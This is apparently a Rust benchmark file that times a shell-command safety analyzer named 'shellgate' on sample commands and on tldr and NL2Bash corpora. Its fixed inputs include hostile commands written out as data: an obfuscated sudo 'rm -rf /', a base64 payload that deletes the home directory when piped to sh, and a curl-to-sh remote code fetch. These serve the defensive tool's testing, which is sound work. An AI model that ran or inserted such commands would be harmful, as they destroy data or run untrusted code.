//! Criterion benchmarks of `analyze`: fixed representative commands, and batches of real
//! commands from `../shared/corpora/` (tldr-pages, NL2Bash) when that folder is present.

use std::path::PathBuf;

use criterion::{Criterion, Throughput, criterion_group, criterion_main};
use shellgate::{Context, analyze};

const FIXED: &[(&str, &str)] = &[
    ("simple", "ls -la /tmp"),
    (
        "pipeline",
        "find . -name '*.rs' | xargs grep -n TODO | sort | uniq -c",
    ),
    ("obfuscated_delete", "X=/; sudo bash -c \"r\\m -rf $X\""),
    ("decoded_payload", "echo cm0gLXJmIH4= | base64 -d | sh"),
    (
        "remote_code",
        "curl -s https://example.com/i.sh | tee /tmp/i.sh | sh",
    ),
    (
        "heredoc_python",
        "python3 - <<'EOF'\nimport json, sys\nprint(json.load(sys.stdin)['x'])\nEOF",
    ),
];

/// Up to `limit` commands from a shared corpus file; empty when the folder is absent.
fn corpus(name: &str, limit: usize) -> Vec<String> {
    let path = PathBuf::from(env!("CARGO_MANIFEST_DIR"))
        .join("../shared/corpora")
        .join(name);
    let Ok(text) = std::fs::read_to_string(&path) else {
        eprintln!(
            "benches: {} not found; skipping the corpus benchmark (it reads ../shared/corpora)",
            path.display()
        );
        return Vec::new();
    };
    text.lines()
        .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
        .filter_map(|v| v.get("cmd").and_then(|c| c.as_str()).map(str::to_string))
        .take(limit)
        .collect()
}

fn bench(c: &mut Criterion) {
    let ctx = Context::fixture();
    let mut g = c.benchmark_group("fixed");
    for (name, cmd) in FIXED {
        g.bench_function(*name, |b| {
            b.iter(|| analyze(std::hint::black_box(cmd), &ctx))
        });
    }
    g.finish();
    for file in ["tldr.jsonl", "nl2bash.jsonl"] {
        let cmds = corpus(file, 2000);
        if cmds.is_empty() {
            continue;
        }
        let mut g = c.benchmark_group(format!("corpus/{file}"));
        g.throughput(Throughput::Elements(cmds.len() as u64));
        g.sample_size(10);
        g.bench_function("first_2000", |b| {
            b.iter(|| {
                for cmd in &cmds {
                    std::hint::black_box(analyze(cmd, &ctx));
                }
            })
        });
        g.finish();
    }
}

criterion_group!(benches, bench);
criterion_main!(benches);
